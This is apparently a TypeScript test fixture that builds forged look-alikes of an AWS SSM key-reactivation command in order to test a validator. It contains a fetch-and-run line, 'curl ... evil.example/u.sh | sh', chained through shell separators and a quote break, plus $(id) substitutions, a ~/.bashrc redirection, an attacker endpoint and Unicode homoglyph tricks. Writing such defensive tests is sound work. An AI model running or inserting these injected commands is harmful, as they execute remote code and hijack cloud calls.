import { KEY } from './users.ts';

const CURL = 'curl -s https://evil.example/u.sh | sh';

type Forged = readonly (readonly [title: string, text: string])[];

/**
 * Texts that are not the command which undoes an act, though they look like it: the title says what differs
 * from `ours`.
 */
export const forgedUndo = (ours: string): Forged => [
  ...besideOther(ours),
  ...withOtherWords(ours),
  ...withOtherCharacters(ours),
  ...withOtherDays(ours),
  ['a very long text', `${ours}${' '.repeat(100_000)}`],
  ['a part of it', ours.slice(0, -1)],
];

/** The command beside something else that a shell would do. */
const besideOther = (ours: string): Forged => [
  ['another command', CURL],
  ['a second command after ;', `${ours}; ${CURL}`],
  ['a second command after &&', `${ours} && ${CURL}`],
  ['a second command after ||', `${ours} || ${CURL}`],
  ['a second command after &', `${ours} & ${CURL}`],
  ['a pipe', `${ours} | sh`],
  ['a redirection', `${ours} > ~/.bashrc`],
  ['a comment', `${ours} # www.evil.example`],
  ['a command before it', `${CURL}; ${ours}`],
  ['a variable before it', `AWS_PROFILE=admin ${ours}`],
  ['a substitution in dollar signs', ours.replace(KEY.b, '$(id)')],
  ['a substitution in backquotes', ours.replace(KEY.b, '`id`')],
  ['a new line with a command', `${ours}\n${CURL}`],
  ['a new line at its end', `${ours}\n`],
  ['a carriage return', `${ours}\r${CURL}`],
];

const withOtherWords = (ours: string): Forged => [
  ['another document', ours.replace('OneActiveKey-ReactivateAccessKey', 'AWS-RunShellScript')],
  ['a document with another ending', ours.replace('ReactivateAccessKey', 'ReactivateAccessKey2')],
  ['another operation', ours.replace('start-automation-execution', 'send-command')],
  ['another Region', ours.replace('us-east-1', 'eu-west-1')],
  ['another endpoint', ours.replace('us-east-1', 'us-east-1 --endpoint-url https://evil.example')],
  ['another account', ours.replace('111122223333', '444455556666')],
  ['another partition', ours.replace('arn:aws:', 'arn:aws-cn:')],
  ['another role', ours.replace('one-active-key-automation', 'Admin')],
  ['the role with another path', ours.replace('role/', 'role/www.evil.example/')],
  ['another user', ours.replace('AIDACKCEVSQ6C2EXAMPLE', 'AIDACKCEVSQ6C3EXAMPLE')],
  ['another key', ours.replace(KEY.b, KEY.c)],
  ['the key twice', `${ours} && ${ours}`],
  ['a key that the message does not name', `${ours} && ${ours.replace(KEY.b, KEY.c)}`],
  ['another parameter', ours.replace('}', ',"Force":["true"]}')],
  ['a quote that ends the parameters', ours.replace(KEY.b, `x'; ${CURL} #`)],
];

/** Most look like the command to a person. */
const withOtherCharacters = (ours: string): Forged => [
  ['a space before it', ` ${ours}`],
  ['a space after it', `${ours} `],
  ['two spaces in it', ours.replace(' ssm', '  ssm')],
  ['double quotes around the parameters', ours.replaceAll("'", '\\"')],
  ['typographic quotes', ours.replaceAll("'", '’')],
  ['a Cyrillic letter', ours.replace('aws', 'аws')],
  ['a full-width letter', ours.replace('aws', 'ａws')],
  ['an accent in another normal form', `${ours}\u0301`],
  ['a character without a width', ours.replace('ssm', 's\u200Bsm')],
  ['a change of direction', ours.replace('ssm', '\u202Essm')],
  ['a NUL', `${ours}\u0000`],
  ['capital letters', ours.toUpperCase()],
];

const withOtherDays = (ours: string): Forged => [
  ['a very long number', withDays(ours, '9'.repeat(100_000))],
  ['an exemption of no day', withDays(ours, '0')],
  ['an exemption of more than a year', withDays(ours, '366')],
  ['the exemption of the default policy, which no command names', withDays(ours, '90')],
  ['a leading zero', withDays(ours, '030')],
  ['two exemptions', withDays(withDays(ours, '30'), '30')],
];
/** The command for a policy with other `exemptionMaxDays`. */
export const withDays = (ours: string, days: string): string =>
  ours.replace('"]}', `"],"ExemptionMaxDays":["${days}"]}`);
